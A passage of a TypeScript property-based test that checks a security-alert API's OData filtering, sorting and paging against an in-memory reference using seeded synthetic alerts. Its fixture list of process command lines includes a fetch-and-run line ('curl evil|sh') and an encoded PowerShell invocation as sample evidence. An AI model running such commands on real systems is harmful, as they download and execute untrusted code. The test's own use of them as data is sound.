/**
 * Property: on random data and random queries, what the server returns for $filter, $orderby, $top,
 * $skip and $count (and by following @odata.nextLink) equals an in-memory evaluation of the same
 * query by `test/support/reference-filter.ts`.
 *
 * The data set is generated from a fixed seed and goes in through the real HTTP API (ingestion with
 * correlation, then PATCHes); the reference reads it back as Graph JSON. Filters are random trees
 * over every filterable property, with literals drawn mostly from values present in the data.
 *
 * Reproduce a failure with the seed fast-check prints: FC_SEED=<seed> npx vitest run test/odata/filter-property.test.ts
 * (FC_RUNS sets the number of runs per entity set.)
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import fc, { type Arbitrary } from "fast-check";
import { startTriage, type TestTriage } from "../support/triage.js";
import { parseFilter } from "../../src/odata/parse-filter.js";
import {
  alertModel,
  evaluateFilter,
  evidenceBaseProps,
  evidenceSubtypeProps,
  incidentModel,
  sortEntities,
  type PropType,
  type RefModel,
  type RefOrderKey,
  type ScalarType,
} from "../support/reference-filter.js";
import {
  alertClassification,
  alertDetermination,
  alertSeverity,
  detectionSource,
  deviceHealthStatus,
  deviceRiskScore,
  evidenceRemediationStatus,
  evidenceVerdict,
  serviceSource,
  type GraphEnum,
} from "../../src/schema/enums.js";

const DATA_SEED = 0x5eed_2026;
const FC_SEED = Number(process.env.FC_SEED ?? 1_106_2026);
const RUNS = Number(process.env.FC_RUNS ?? 300);
const ALERT_COUNT = 240;
/** Read with gated enum members as stored, so the reference sees what the filter compares. */
const PREFER = { prefer: "include-unknown-enum-members" };

type Entity = Record<string, any>;

// ── seeded data ───────────────────────────────────────────────────────────────────────────────────

/** mulberry32: small, fast, and the same everywhere. */
function random(seed: number) {
  let s = seed >>> 0;
  const next = (): number => {
    s = (s + 0x6d2b79f5) >>> 0;
    let x = s;
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
  const int = (lo: number, hi: number) => lo + Math.floor(next() * (hi - lo + 1));
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]!;
  const chance = (p: number) => next() < p;
  const subset = <T>(xs: readonly T[], max: number): T[] => {
    const n = int(0, max);
    const out: T[] = [];
    for (let i = 0; i < n; i++) {
      const x = pick(xs);
      if (!out.includes(x)) out.push(x);
    }
    return out;
  };
  return { next, int, pick, chance, subset };
}
type Random = ReturnType<typeof random>;

const HOUR = 3_600_000;
const BASE = Date.parse("2026-01-05T00:00:00Z");

const settable = (e: GraphEnum) => e.members.filter((m) => m !== "unknownFutureValue");
const DETERMINATION_ALIASES = ["compromisedUser", "clean", "insufficientData", "confirmedUserActivity"];

const TITLES: (string | null)[] = [
  "Suspicious PowerShell command line",
  "suspicious powershell command line",
  "Malware detected",
  "Malware detected on endpoint",
  "O'Brien's inbox forwarding rule",
  "100% CPU coin miner",
  "Token theft a_b",
  "Plus+Hash#Amp&Query?",
  "Zeta",
  "alpha",
  "Alpha",
  "",
  "  padded  ",
  null,
];
const CATEGORIES = ["Execution", "Persistence", "CredentialAccess", "LateralMovement", "InitialAccess", "Exfiltration", "execution"];
const TECHNIQUES = ["T1059", "T1059.001", "T1078", "T1566.001", "T1021", "T1003", "t1003"];
const ASSIGNEES = ["alice@contoso.com", "Alice@contoso.com", "bob@contoso.com", "o'neil@contoso.com", "zed", "", null];
const TAGS = ["vip", "VIP", "phishing", "ransomware", "needs-review", "tag with space", "o'tag", "%_", "Z"];
const COMMAND_LINES = ["powershell.exe -enc SQBFAFgA", 'cmd.exe /c "whoami /all"', "C:\\Windows\\System32\\rundll32.exe x.dll,Run", "bash -c 'curl evil|sh'"];
const ROLES = ["compromised", "attacker", "contextual", "suspicious", "attacked", "destination"];

function hex(n: number, len: number): string {
  let out = "";
  let x = (n * 2654435761) >>> 0;
  while (out.length < len) {
    out += x.toString(16).padStart(8, "0");
    x = Math.imul(x ^ (x >>> 13), 0x5bd1e995) >>> 0;
  }
  return out.slice(0, len);
}

/** A date-time in one of the forms a source might send: Z with or without ms, an offset, 7 fraction digits. */
function sentDateTime(r: Random, ms: number): string {
  const iso = new Date(ms).toISOString();
  switch (r.int(0, 4)) {
    case 0:
      return iso;
    case 1:
      return iso.replace(/\.\d{3}Z$/, "Z");
    case 2:
      return new Date(ms + 150 * 60_000).toISOString().replace("Z", "+02:30");
    case 3:
      return new Date(ms - 300 * 60_000).toISOString().replace("Z", "-05:00");
    default:
      return iso.replace(/Z$/, "0000Z");
  }
}

interface Cluster {
  n: number;
  at: number;
}

function evidenceFor(r: Random, c: Cluster, at: number, bridge: Cluster | undefined): Record<string, unknown>[] {
  const base = () => {
    const e: Record<string, unknown> = {
      verdict: r.pick(settable(evidenceVerdict)),
      remediationStatus: r.pick(settable(evidenceRemediationStatus)),
      roles: r.subset(ROLES, 2),
    };
    if (r.chance(0.9)) e.createdDateTime = sentDateTime(r, at - r.int(0, 2 * HOUR));
    if (r.chance(0.2)) e.tags = r.subset(["lab", "Prod", "lab-2"], 2);
    if (r.chance(0.15)) e.detailedRoles = r.subset(["PrimaryDevice", "Sender", "primarydevice"], 2);
    if (r.chance(0.1)) e.remediationStatusDetails = r.pick(["quarantined", "Quarantined by AV", ""]);
    return e;
  };
  const type = (name: string) => `#microsoft.graph.security.${name}`;
  const user = (k: Cluster) => (k.n % 5 === 0 ? `User${k.n}@Contoso.com` : `user${k.n}@contoso.com`);
  const out: Record<string, unknown>[] = [];
  if (r.chance(0.75)) {
    out.push({
      ...base(),
      "@odata.type": type("deviceEvidence"),
      ...(r.chance(0.85) ? { mdeDeviceId: hex(c.n, 40) } : {}),
      deviceDnsName: c.n % 3 === 0 ? `HOST-${c.n}.Contoso.com` : `host-${c.n}.contoso.com`,
      osPlatform: r.pick(["Windows10", "Windows11", "Linux", "macOS"]),
      osBuild: r.pick([19045, 22631, 22000, 6, null]),
      ...(r.chance(0.5) ? { rbacGroupId: r.int(1, 5) } : {}),
      healthStatus: r.pick([...settable(deviceHealthStatus), null]),
      riskScore: r.pick([...settable(deviceRiskScore), null]),
      firstSeenDateTime: r.chance(0.8) ? sentDateTime(r, at - r.int(1, 400) * HOUR) : null,
      ipInterfaces: r.chance(0.7) ? [`10.1.${c.n % 250}.${r.int(1, 9)}`, ...(r.chance(0.3) ? ["fe80::1"] : [])] : null,
    });
  }
  const users = [c, ...(bridge ? [bridge] : [])];
  for (const k of users) {
    if (k === bridge || r.chance(0.55)) {
      out.push({
        ...base(),
        "@odata.type": type("userEvidence"),
        userAccount: { accountName: `user${k.n}`, domainName: r.pick(["CONTOSO", "contoso"]), userPrincipalName: user(k) },
      });
    }
  }
  if (r.chance(0.4)) {
    out.push({
      ...base(),
      "@odata.type": type("ipEvidence"),
      ipAddress: `10.2.${Math.floor(c.n / 250)}.${(c.n % 250) + 1}`,
      countryLetterCode: r.pick(["US", "NL", "us", null]),
    });
  }
  if (r.chance(0.2)) out.push({ ...base(), "@odata.type": type("urlEvidence"), url: `https://evil${c.n}.example.com/p?q=${r.int(1, 3)}&x=%20` });
  if (r.chance(0.25)) {
    out.push({
      ...base(),
      "@odata.type": type("fileEvidence"),
      detectionStatus: r.pick(["detected", "blocked", "prevented", null]),
      fileDetails: { fileName: r.pick(["evil.exe", "Evil.EXE", "doc.pdf", "a'b.txt"]), sha256: hex(c.n + 7, 64), fileSize: r.int(0, 5_000_000) },
    });
  }
  if (r.chance(0.2)) {
    out.push({
      ...base(),
      "@odata.type": type("processEvidence"),
      processId: r.int(4, 9000),
      processCommandLine: r.pick(COMMAND_LINES),
      imageFile: { fileName: r.pick(["powershell.exe", "cmd.exe", "rundll32.exe"]) },
      userAccount: { accountName: `user${c.n}`, domainName: "CONTOSO", userPrincipalName: user(c) },
    });
  }
  if (r.chance(0.15)) {
    out.push({
      ...base(),
      "@odata.type": type("mailboxEvidence"),
      primaryAddress: `user${c.n}@contoso.com`,
      displayName: r.pick(["User Mailbox", "shared box", null]),
      upn: user(c),
    });
  }
  if (r.chance(0.08)) out.push({ ...base(), "@odata.type": type("malwareEvidence"), name: r.pick(["Trojan:Win32/Wacatac", "EICAR"]) });
  // An unknown subtype is kept as given: no defaults, so its base properties may be absent.
  if (r.chance(0.08)) out.push({ "@odata.type": "microsoft.graph.security.futureWidgetEvidence", verdict: "malicious", widget: c.n });
  return r.chance(0.3) ? out.reverse() : out;
}

function buildAlerts(r: Random): Record<string, unknown>[] {
  const clusters: Cluster[] = [];
  const alerts: Record<string, unknown>[] = [];
  const newCluster = () => {
    const idx = clusters.length;
    // Pairs of clusters may share a start time, so incidents tie on createdDateTime too.
    const c: Cluster = { n: idx + 1, at: BASE + Math.floor(idx / 2) * 4 * HOUR + (r.chance(0.5) ? 0 : r.int(0, 2 * HOUR)) };
    clusters.push(c);
    return c;
  };
  for (let i = 0; i < ALERT_COUNT; i++) {
    const roll = r.next();
    let c: Cluster;
    let bridge: Cluster | undefined;
    if (clusters.length > 3 && roll < 0.3) {
      c = r.pick(clusters.slice(-6)); // shares entities with a recent cluster: joins its incident
    } else if (clusters.length > 3 && roll < 0.37) {
      c = clusters[clusters.length - 1]!;
      bridge = clusters[clusters.length - r.int(2, 4)]; // ties two open incidents: one merges into the other
    } else {
      c = newCluster();
    }
    const created = c.at + (r.chance(0.35) ? 0 : r.int(0, 10 * HOUR));
    const title = r.pick(TITLES);
    const categories = r.subset(CATEGORIES, 3);
    const alert: Record<string, unknown> = {
      id: `${r.pick(["al", "al", "AL", "al_", "al-"])}${String(i).padStart(4, "0")}${r.chance(0.2) ? "z" : ""}`,
      title,
      severity: r.pick(settable(alertSeverity)),
      status: r.pick(["new", "new", "new", "new", "inProgress", "resolved", "unknown"]),
      serviceSource: r.pick(settable(serviceSource)),
      detectionSource: r.chance(0.1) ? null : r.pick(settable(detectionSource)),
      detectorId: `det-${r.int(1, 25)}`,
      category: categories[0] ?? null,
      categories,
      mitreTechniques: r.subset(TECHNIQUES, 3),
      createdDateTime: sentDateTime(r, created),
      evidence: evidenceFor(r, c, created, bridge),
    };
    if (r.chance(0.7)) alert.lastUpdateDateTime = sentDateTime(r, created + r.int(0, 48 * HOUR));
    if (r.chance(0.85)) {
      const first = created - r.int(0, 5 * HOUR);
      alert.firstActivityDateTime = sentDateTime(r, first);
      alert.lastActivityDateTime = r.chance(0.8) ? sentDateTime(r, first + r.int(0, 5 * HOUR)) : null;
    } else {
      alert.firstActivityDateTime = null;
    }
    alerts.push(alert);
  }
  return alerts;
}

function incidentPatch(r: Random): Record<string, unknown> {
  const body: Record<string, unknown> = {};
  if (r.chance(0.5)) body.assignedTo = r.pick(ASSIGNEES);
  if (r.chance(0.35)) body.classification = r.pick([...settable(alertClassification), null]);
  if (r.chance(0.35)) body.determination = r.pick([...settable(alertDetermination), ...DETERMINATION_ALIASES, null]);
  if (r.chance(0.4)) body.customTags = r.chance(0.1) ? null : r.subset(TAGS, 4);
  if (r.chance(0.15)) body.displayName = r.pick(["Renamed by analyst", "renamed", "", null, "Zulu incident", "O'Hare"]);
  if (r.chance(0.2)) body.severity = r.pick(settable(alertSeverity));
  if (r.chance(0.3)) body.status = r.pick(["resolved", "inProgress", "active"]);
  if (Object.keys(body).length === 0) body.assignedTo = r.pick(ASSIGNEES);
  return body;
}

function alertPatch(r: Random): Record<string, unknown> {
  const body: Record<string, unknown> = {};
  if (r.chance(0.5)) body.status = r.pick(["new", "inProgress", "resolved", "unknown"]);
  if (r.chance(0.5)) body.assignedTo = r.pick(ASSIGNEES);
  if (r.chance(0.4)) body.classification = r.pick([...settable(alertClassification), null]);
  if (r.chance(0.4)) body.determination = r.pick([...settable(alertDetermination), null]);
  if (Object.keys(body).length === 0) body.status = "inProgress";
  return body;
}

/** Every page of a listing, following @odata.nextLink. */
async function readAll(t: TestTriage, first: string): Promise<{ value: Entity[]; pages: number }> {
  const value: Entity[] = [];
  let path: string | null = first;
  let pages = 0;
  while (path !== null) {
    const res = await t.get(path, PREFER);
    if (res.status !== 200) throw new Error(`GET ${path}: ${res.status} ${res.text}`);
    value.push(...(res.body.value as Entity[]));
    pages++;
    const next = res.body["@odata.nextLink"] as string | undefined;
    path = next === undefined ? null : pathOf(next);
    if (pages > 500) throw new Error("nextLink does not end");
  }
  return { value, pages };
}

function pathOf(link: string): string {
  const u = new URL(link);
  return u.pathname + u.search;
}

// ── filter generation ─────────────────────────────────────────────────────────────────────────────

const quote = (s: string) => `'${s.replace(/'/g, "''")}'`;
const keyword = (word: string) => fc.constantFrom(word, word, word, word.toUpperCase());

/** Something a filter can compare: a property path (or tolower(path)), its type, and values seen for it. */
interface Subject {
  text: string;
  type: ScalarType;
  pool: unknown[];
  /** gt/ge/lt/le allowed (not for enums inside evidence, nor roles elements, which compare by name). */
  ordered: boolean;
  /** How often it is picked relative to the others. */
  weight: number;
}

function distinct(values: unknown[]): unknown[] {
  return [...new Set(values.filter((v) => v !== null && v !== undefined))];
}

function mutateString(s: string, how: number): string {
  switch (how) {
    case 0:
      return `${s}x`;
    case 1:
      return s.slice(0, -1);
    case 2:
      return s.toUpperCase();
    case 3:
      return s.toLowerCase();
    default:
      return ` ${s}`;
  }
}

function stringValue(pool: unknown[]): Arbitrary<string> {
  const values = pool.filter((v): v is string => typeof v === "string");
  const randomText = fc.string({ unit: "grapheme-ascii", maxLength: 6 });
  if (values.length === 0) return randomText;
  return fc.oneof(
    { weight: 8, arbitrary: fc.constantFrom(...values) },
    { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...values), fc.integer({ min: 0, max: 4 })).map(([s, how]) => mutateString(s, how)) },
    { weight: 1, arbitrary: randomText },
  );
}

function formatDateTime(ms: number, form: number): string {
  const iso = new Date(ms).toISOString();
  switch (form) {
    case 0:
      return iso;
    case 1:
      return iso.replace(/\.\d{3}Z$/, "Z");
    case 2:
      return new Date(ms + 150 * 60_000).toISOString().replace("Z", "+02:30");
    case 3:
      return new Date(ms - 300 * 60_000).toISOString().replace("Z", "-05:00");
    default:
      return iso.slice(0, 10);
  }
}

function dateTimeLiteral(pool: unknown[]): Arbitrary<string> {
  const instants = pool.map((v) => Date.parse(String(v))).filter((n) => Number.isFinite(n));
  const extremes = fc.constantFrom(
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999Z",
    "9999-12-31T18:59:59.999-05:00",
    "2026-01-05",
    "2026-01-05T00:00:00.0000001Z",
    "2026-02-01T00:00:00+14:00",
  );
  const anywhere = fc.tuple(fc.integer({ min: BASE - 30 * 24 * HOUR, max: BASE + 120 * 24 * HOUR }), fc.integer({ min: 0, max: 4 }));
  const arbs: { weight: number; arbitrary: Arbitrary<string> }[] = [
    { weight: 1, arbitrary: extremes },
    { weight: 2, arbitrary: anywhere.map(([ms, form]) => formatDateTime(ms, form)) },
  ];
  if (instants.length > 0) {
    const near = fc.tuple(fc.constantFrom(...instants), fc.constantFrom(0, 0, 0, 0, -1, 1, -1000, 1000, -HOUR, 24 * HOUR), fc.integer({ min: 0, max: 4 }));
    arbs.push({ weight: 8, arbitrary: near.map(([ms, delta, form]) => formatDateTime(ms + delta, form)) });
  }
  return fc.oneof(...arbs);
}

function numberLiteral(pool: unknown[]): Arbitrary<string> {
  const values = pool.filter((v): v is number => typeof v === "number");
  const arbs: Arbitrary<string>[] = [fc.integer({ min: -3, max: 110 }).map(String), fc.integer({ min: 0, max: 100 }).map((n) => `${n}.5`)];
  if (values.length > 0) arbs.push(fc.constantFrom(...values).map(String), fc.constantFrom(...values).map(String));
  return fc.oneof(...arbs);
}

function idLiteral(pool: unknown[], equalityOnly: boolean): Arbitrary<string> {
  const ids = pool.map(String);
  const max = Math.max(0, ...ids.map(Number));
  const arbs: Arbitrary<string>[] = [fc.integer({ min: 0, max: max + 3 }).map((n) => quote(String(n))), fc.integer({ min: -1, max: max + 3 }).map(String)];
  if (ids.length > 0) {
    const some = fc.constantFrom(...ids);
    arbs.push(
      some.map(quote),
      some.map(quote),
      some,
      some.map((v) => quote(`0${v}`)),
    );
  }
  if (equalityOnly) arbs.push(fc.constantFrom("'abc'", "'12a'", "''", "' 1'", "'1.0'", "'-1'", "'1234567890123456'"));
  return fc.oneof(...arbs);
}

function enumLiteral(e: GraphEnum, pool: unknown[]): Arbitrary<string> {
  const names = [...e.members, ...(e === alertDetermination ? DETERMINATION_ALIASES : [])];
  const seen = pool.filter((v): v is string => typeof v === "string");
  const name =
    seen.length > 0
      ? fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...seen) }, { weight: 1, arbitrary: fc.constantFrom(...names) })
      : fc.constantFrom(...names);
  return fc.tuple(name, fc.integer({ min: 0, max: 9 })).map(([n, how]) => {
    if (how === 7) return quote(n.toLowerCase());
    if (how === 8) return quote(n.toUpperCase());
    if (how === 9) return `microsoft.graph.security.${e.name}'${n}'`;
    return quote(n);
  });
}

/** Spells `s` with each letter's case taken from a bit of `bits`. */
function randomCase(s: string, bits: number): string {
  return [...s].map((ch, i) => ((bits >>> (i % 31)) & 1 ? ch.toUpperCase() : ch.toLowerCase())).join("");
}

/**
 * A member of `e` for an element of a collection of enum members (evidence roles): mostly one seen
 * in the data, sometimes any other member, in random case; sometimes as a qualified enum literal.
 */
function memberLiteral(e: GraphEnum, pool: unknown[]): Arbitrary<string> {
  const seen = pool.filter((v): v is string => typeof v === "string" && e.members.includes(v));
  const others = e.members.filter((m) => !seen.includes(m));
  const arbs: { weight: number; arbitrary: Arbitrary<string> }[] = [];
  if (seen.length > 0) arbs.push({ weight: 4, arbitrary: fc.constantFrom(...seen) });
  if (others.length > 0) arbs.push({ weight: 1, arbitrary: fc.constantFrom(...others) });
  return fc.tuple(fc.oneof(...arbs), fc.integer({ min: 0, max: 9 }), fc.nat()).map(([n, how, bits]) => {
    if (how <= 3) return quote(n);
    if (how === 4) return quote(n.toLowerCase());
    if (how === 5) return quote(n.toUpperCase());
    if (how === 6) return `microsoft.graph.security.${e.name}'${randomCase(n, bits)}'`;
    return quote(randomCase(n, bits));
  });
}

function literal(s: Subject, equalityOnly: boolean): Arbitrary<string> {
  switch (s.type.kind) {
    case "string":
      return stringValue(s.pool).map(quote);
    case "number":
      return numberLiteral(s.pool);
    case "datetime":
      return dateTimeLiteral(s.pool);
    case "numericId":
      return idLiteral(s.pool, equalityOnly);
    case "enum":
      return enumLiteral(s.type.graphEnum, s.pool);
    case "member":
      return memberLiteral(s.type.graphEnum, s.pool);
  }
}

const ORDER_OPS = ["gt", "ge", "lt", "le"] as const;

function scalarAtom(s: Subject): Arbitrary<string> {
  const op = s.ordered ? fc.constantFrom("eq", "eq", "eq", "ne", "ne", ...ORDER_OPS) : fc.constantFrom("eq", "eq", "ne");
  const compare = op.chain((o) =>
    fc
      .tuple(literal(s, o === "eq" || o === "ne"), fc.integer({ min: 0, max: 9 }))
      .map(([lit, side]) => (side === 0 ? `${lit} ${o} ${s.text}` : `${s.text} ${o} ${lit}`)),
  );
  const nullCompare = fc
    .constantFrom("eq", "eq", "ne", "ne", "gt", "le")
    .map((o) => ((o === "gt" || o === "le") && !s.ordered ? `${s.text} eq null` : `${s.text} ${o} null`));
  const inList = fc
    .tuple(fc.array(literal(s, true), { minLength: 1, maxLength: 4 }), fc.boolean(), fc.integer({ min: 0, max: 5 }))
    .map(([lits, withNull, spaced]) => {
      const values = withNull ? [...lits, "null"] : lits;
      return `${s.text} in (${values.join(spaced === 0 ? ", " : ",")})`;
    });
  const arbs: { weight: number; arbitrary: Arbitrary<string> }[] = [
    { weight: 6, arbitrary: compare },
    { weight: 1, arbitrary: nullCompare },
    { weight: 2, arbitrary: inList },
  ];
  if (s.type.kind === "string") arbs.push({ weight: 4, arbitrary: stringFunction(s) });
  return fc.oneof(...arbs);
}

/** startswith/endswith/contains, on the subject or tolower/toupper of it, with needles cut from real values. */
function stringFunction(s: Subject): Arbitrary<string> {
  const values = s.pool.filter((v): v is string => typeof v === "string");
  const cut =
    values.length === 0
      ? fc.string({ unit: "grapheme-ascii", maxLength: 3 })
      : fc.tuple(fc.constantFrom(...values), fc.nat(30), fc.nat(30), fc.integer({ min: 0, max: 5 })).map(([v, i, j, how]) => {
          if (how === 0) return v.slice(0, i % (v.length + 1));
          if (how === 1) return v.slice(v.length - (i % (v.length + 1)));
          if (how === 2) return v.slice(Math.min(i, j) % (v.length + 1), Math.max(i, j) % (v.length + 1));
          if (how === 3) return v.slice(0, 3).toLowerCase();
          if (how === 4) return "";
          return `${v.slice(-2)}#`;
        });
  const fn = fc.constantFrom("startswith", "endswith", "contains");
  const wrap = fc.constantFrom("", "", "tolower", "toupper");
  const call = fc.tuple(fn, wrap, cut).map(([f, w, needle]) => {
    const subject = w === "" ? s.text : `${w}(${s.text})`;
    const n = w === "tolower" ? needle.toLowerCase() : w === "toupper" ? needle.toUpperCase() : needle;
    return `${f}(${subject}, ${quote(n)})`;
  });
  const cased = fc
    .tuple(fc.constantFrom("tolower", "toupper"), fc.constantFrom("eq", "eq", "ne", "gt", "le"), stringValue(s.pool))
    .map(([w, o, v]) => `${w}(${s.text}) ${o} ${quote(w === "tolower" ? v.toLowerCase() : v.toUpperCase())}`);
  return fc.oneof({ weight: 3, arbitrary: call }, { weight: 1, arbitrary: cased });
}

/** and/or/not trees of `atom`, up to `depth` levels; sometimes unparenthesized, to exercise precedence. */
function booleanTree(atom: Arbitrary<string>, depth: number): Arbitrary<string> {
  if (depth <= 0) return atom;
  const sub = booleanTree(atom, depth - 1);
  return fc.oneof(
    { weight: 4, arbitrary: atom },
    { weight: 2, arbitrary: fc.tuple(sub, keyword("and"), sub).map(([a, k, b]) => `(${a}) ${k} (${b})`) },
    { weight: 2, arbitrary: fc.tuple(sub, keyword("or"), sub).map(([a, k, b]) => `(${a}) ${k} (${b})`) },
    { weight: 1, arbitrary: fc.tuple(keyword("not"), sub).map(([k, a]) => `${k} (${a})`) },
    { weight: 1, arbitrary: fc.tuple(atom, atom, keyword("not"), atom).map(([a, b, k, c]) => `${a} and ${b} or ${k} ${c}`) },
  );
}

interface Pools {
  props: Map<string, unknown[]>;
  /** Values of evidence properties, by "<subtype or *>:<path>". */
  evidence: Map<string, unknown[]>;
}

function collectPools(rows: Entity[], model: RefModel): Pools {
  const props = new Map<string, unknown[]>();
  const evidence = new Map<string, unknown[]>();
  const add = (map: Map<string, unknown[]>, key: string, v: unknown) => {
    const values = Array.isArray(v) ? v : [v];
    let list = map.get(key);
    if (!list) map.set(key, (list = []));
    list.push(...values);
  };
  for (const row of rows) {
    for (const name of Object.keys(model.props)) {
      if (name !== "evidence") add(props, name, row[name]);
    }
    for (const el of (row.evidence as Entity[] | undefined) ?? []) {
      const sub = String(el["@odata.type"]).replace("#microsoft.graph.security.", "");
      for (const path of Object.keys(evidenceBaseProps)) add(evidence, `*:${path}`, el[path]);
      for (const path of Object.keys(evidenceSubtypeProps[sub] ?? {})) {
        add(
          evidence,
          `${sub}:${path}`,
          path.split("/").reduce<unknown>((o, p) => (o as Entity | null)?.[p], el),
        );
      }
    }
  }
  for (const map of [props, evidence]) for (const [k, v] of map) map.set(k, distinct(v));
  return { props, evidence };
}

const STRING_TYPE: ScalarType = { kind: "string" };

/** The type of an element of a collection of strings or of enum members. */
function elementType(type: Extract<PropType, { kind: "collection" }>): ScalarType {
  return type.element === "member" ? { kind: "member", graphEnum: type.graphEnum } : STRING_TYPE;
}

/**
 * A lambda over a collection of strings or of enum members (compared with eq, ne and in only);
 * the predicate may also test `outer` conditions.
 */
function stringLambda(collection: string, type: ScalarType, pool: unknown[], variables: readonly string[], outer: Arbitrary<string> | null): Arbitrary<string> {
  return fc.constantFrom(...variables).chain((v) => {
    const element: Subject = { text: v, type, pool, ordered: type.kind === "string", weight: 1 };
    const atom = outer ? fc.oneof({ weight: 3, arbitrary: scalarAtom(element) }, { weight: 1, arbitrary: outer }) : scalarAtom(element);
    const predicate = booleanTree(atom, 2);
    return fc.oneof(
      { weight: 4, arbitrary: fc.tuple(keyword("any"), predicate).map(([op, p]) => `${collection}/${op}(${v}: ${p})`) },
      { weight: 2, arbitrary: predicate.map((p) => `${collection}/all(${v}: ${p})`) },
      { weight: 1, arbitrary: fc.constant(`${collection}/any()`) },
    );
  });
}

function subjectsOf(model: RefModel, pools: Pools, prefix = ""): Subject[] {
  const out: Subject[] = [];
  for (const [name, type] of Object.entries(model.props)) {
    if (type.kind === "collection") continue;
    // id weighs more: inside a lambda it must still name the entity's id, not the JSON table's.
    out.push({ text: `${prefix}${name}`, type, pool: pools.props.get(name) ?? [], ordered: true, weight: name === "id" ? 3 : 1 });
  }
  return out;
}

/** Conditions on top-level scalar properties (no lambdas). */
function topScalarAtom(model: RefModel, pools: Pools): Arbitrary<string> {
  return weighted(subjectsOf(model, pools));
}

function weighted(subjects: Subject[]): Arbitrary<string> {
  return fc.oneof(...subjects.map((s) => ({ weight: s.weight, arbitrary: scalarAtom(s) })));
}

const CAST = "microsoft.graph.security.";

/** Conditions on one evidence element, through the range variable `v`. */
function evidenceAtom(v: string, pools: Pools, outer: Arbitrary<string>): Arbitrary<string> {
  const subjects: Subject[] = [];
  const nested: Arbitrary<string>[] = [];
  const addProps = (props: Readonly<Record<string, PropType>>, sub: string | null, poolKey: string) => {
    for (const [path, type] of Object.entries(props)) {
      const text = sub === null ? `${v}/${path}` : `${v}/${CAST}${sub}/${path}`;
      const pool = pools.evidence.get(`${poolKey}:${path}`) ?? [];
      if (type.kind === "collection") {
        if (type.element === "evidence") throw new Error(`evidence inside evidence: ${path}`);
        nested.push(stringLambda(text, elementType(type), pool, ["r", "x"], fc.oneof(outer, fc.constant(`${v}/verdict eq 'malicious'`))));
      } else {
        // Base properties and date-times (kept as sent, in any offset) are picked more often.
        const weight = (sub === null ? 3 : 1) * (type.kind === "datetime" ? 3 : 1);
        subjects.push({ text, type, pool, ordered: type.kind !== "enum", weight });
      }
    }
  };
  addProps(evidenceBaseProps, null, "*");
  for (const [sub, props] of Object.entries(evidenceSubtypeProps)) addProps(props, sub, sub);
  // A cast followed by a base property, e.g. e/microsoft.graph.security.userEvidence/roles.
  for (const sub of ["deviceEvidence", "userEvidence", "ipEvidence"]) {
    const { roles, verdict } = evidenceBaseProps;
    addProps({ roles: roles!, verdict: verdict! }, sub, "*");
  }
  return fc.oneof({ weight: 6, arbitrary: weighted(subjects) }, { weight: 2, arbitrary: fc.oneof(...nested) }, { weight: 1, arbitrary: outer });
}

function topAtom(model: RefModel, pools: Pools): Arbitrary<string> {
  const scalar = topScalarAtom(model, pools);
  const arbs: { weight: number; arbitrary: Arbitrary<string> }[] = [{ weight: 8, arbitrary: scalar }];
  for (const [name, type] of Object.entries(model.props)) {
    if (type.kind !== "collection") continue;
    if (type.element !== "evidence") {
      arbs.push({ weight: 2, arbitrary: stringLambda(name, elementType(type), pools.props.get(name) ?? [], ["t", "x", "tag"], scalar) });
    } else {
      const lambda = fc.constantFrom("e", "ev").chain((v) => {
        const predicate = booleanTree(evidenceAtom(v, pools, scalar), 2);
        return fc.oneof(
          { weight: 4, arbitrary: predicate.map((p) => `${name}/any(${v}: ${p})`) },
          { weight: 2, arbitrary: predicate.map((p) => `${name}/all(${v}: ${p})`) },
          { weight: 1, arbitrary: fc.constant(`${name}/any()`) },
        );
      });
      arbs.push({ weight: 6, arbitrary: lambda });
    }
  }
  return fc.oneof(...arbs);
}

// ── queries ───────────────────────────────────────────────────────────────────────────────────────

interface Query {
  filter: string | undefined;
  orderby: (RefOrderKey & { written: string })[];
  top: number | undefined;
  skip: number | undefined;
  count: boolean;
  select: boolean;
  follow: boolean;
}

function queryArb(model: RefModel, pools: Pools, maxTop: number): Arbitrary<Query> {
  const sortable = Object.entries(model.props)
    .filter(([, t]) => t.kind !== "collection")
    .map(([n]) => n);
  const orderItem = fc.tuple(fc.constantFrom(...sortable), fc.constantFrom("", " asc", " desc", " DESC")).map(([property, dir]) => ({
    property,
    direction: dir.trim().toLowerCase() === "desc" ? ("desc" as const) : ("asc" as const),
    written: `${property}${dir}`,
  }));
  return fc.record({
    filter: fc.option(
      booleanTree(topAtom(model, pools), 3).filter((f) => f.length <= 4000),
      { freq: 10, nil: undefined },
    ),
    orderby: fc.uniqueArray(orderItem, { maxLength: 2, selector: (o) => o.property }),
    top: fc.option(fc.integer({ min: 1, max: maxTop }), { freq: 8, nil: undefined }),
    skip: fc.option(fc.integer({ min: 0, max: 40 }), { freq: 2, nil: undefined }),
    count: fc.boolean(),
    select: fc.boolean(),
    follow: fc.integer({ min: 0, max: 3 }).map((n) => n === 0),
  });
}

function urlOf(entitySet: string, q: Query): string {
  const params: string[] = [];
  if (q.filter !== undefined) params.push(`$filter=${encodeURIComponent(q.filter)}`);
  if (q.orderby.length > 0) params.push(`$orderby=${encodeURIComponent(q.orderby.map((o) => o.written).join(","))}`);
  if (q.top !== undefined) params.push(`$top=${q.top}`);
  if (q.skip !== undefined) params.push(`$skip=${q.skip}`);
  if (q.count) params.push("$count=true");
  if (q.select) params.push("$select=id,createdDateTime");
  return `/v1.0/security/${entitySet}${params.length ? "?" : ""}${params.join("&")}`;
}

interface Stats {
  runs: number;
  nonTrivial: number;
  followed: number;
}

async function checkQuery(t: TestTriage, entitySet: string, model: RefModel, rows: Entity[], defaultTop: number, q: Query, stats: Stats): Promise<void> {
  const url = urlOf(entitySet, q);
  const where = `\n  GET ${decodeURIComponent(url)}`;
  const expr = q.filter === undefined ? null : parseFilter(q.filter);
  const matched = expr === null ? rows : rows.filter((row) => evaluateFilter(expr, row, model));
  const expected = sortEntities(matched, q.orderby, model).map((row) => String(row.id));
  const skip = q.skip ?? 0;
  const top = q.top ?? defaultTop;

  const res = await t.get(url, PREFER);
  expect(res.status, `status${where}\n  ${res.text}`).toBe(200);
  const got = (res.body.value as Entity[]).map((row) => String(row.id));
